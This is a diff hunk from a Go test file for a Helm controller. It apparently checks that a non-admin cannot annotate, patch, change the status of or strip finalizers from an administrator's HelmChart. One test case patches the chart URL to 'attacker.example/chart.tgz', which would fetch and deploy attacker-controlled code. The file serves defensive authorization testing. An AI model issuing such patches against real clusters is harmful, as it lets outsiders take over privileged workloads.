@@ -98,7 +98,7 @@ func TestHelmCharts(t *testing.T) {
 		what string
 		args []string
 	}{
-		{"have nobody look after a HelmChart", []string{"annotate", "helmchart", "admins", "helmcharts.cattle.io/unmanaged=true"}},
+		{"have nobody look after a HelmChart", []string{"annotate", "helmchart", "admins", "helmcharts.helm.cattle.io/unmanaged=true"}},
 		{"change an administrator's HelmChart", []string{"patch", "helmchart", "admins", "--type=merge", `--patch={"spec": {"chart": "https://attacker.example/chart.tgz"}}`}},
 		{"say where the release of a HelmChart is", []string{"patch", "helmchart", "admins", "--type=merge", "--subresource=status", `--patch={"status": {"namespace": "kube-system"}}`}},
 		{"take a HelmChart's finalizers", []string{"patch", "helmchart", "admins", "--type=merge", `--patch={"metadata": {"finalizers": null}}`}},
